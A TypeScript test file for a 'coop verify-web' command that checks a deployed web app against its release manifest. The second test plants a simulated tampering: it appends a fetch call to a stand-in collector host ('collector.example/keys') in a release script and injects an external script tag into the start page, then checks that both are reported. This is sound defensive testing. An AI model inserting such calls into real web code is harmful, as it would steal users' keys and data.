import { appendFileSync, cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { repoRoot, runCli } from '@coop/testing';
import { startBuiltServer, type BuiltServer } from '@coop/testing/browser';

/** `coop verify-web` against a deployment serving a copy of the release, then a tampered copy. */
describe('coop verify-web', () => {
  const release = join(repoRoot(), 'dist', 'apps', 'web');
  const manifest = join(release, 'asset-manifest.json');
  const served = mkdtempSync(join(tmpdir(), 'coop-served-web-'));
  let server: BuiltServer;

  beforeAll(async () => {
    cpSync(release, served, { recursive: true });
    server = await startBuiltServer({ WEB_DIST: served });
  });
  afterAll(async () => {
    await server.stop();
    rmSync(served, { recursive: true, force: true });
  });

  const verify = () => {
    try {
      return { status: 0, out: runCli(['verify-web', server.url, '--manifest', manifest]) };
    } catch (error) {
      const failure = error as { status: number; stdout: string };
      return { status: failure.status, out: failure.stdout };
    }
  };

  it('confirms a deployment that serves the release unchanged', () => {
    const result = verify();
    expect(result.out).toMatch(/^web app matches the release: \d+ files checked/);
    expect(result.status).toBe(0);
  });

  it('names a script that was changed on the server, and a script injected into the page', () => {
    const files = Object.keys(
      (JSON.parse(readFileSync(manifest, 'utf8')) as { files: Record<string, string> }).files,
    );
    const script = files.find((f) => f.endsWith('.js'));
    if (!script) throw new Error('no script in the release');
    appendFileSync(join(served, script), '\n;fetch("https://collector.example/keys")');
    const index = join(served, 'index.html');
    writeFileSync(
      index,
      readFileSync(index, 'utf8').replace(
        '</head>',
        '<script src="https://cdn.example/x.js"></script></head>',
      ),
    );
    const result = verify();
    expect(result.status).toBe(1);
    expect(result.out).toContain(`${script}: content differs from the release`);
    expect(result.out).toContain('/: loads https://cdn.example/x.js from elsewhere');
    expect(result.out).toContain('/: the start page differs from the release');
  });
});
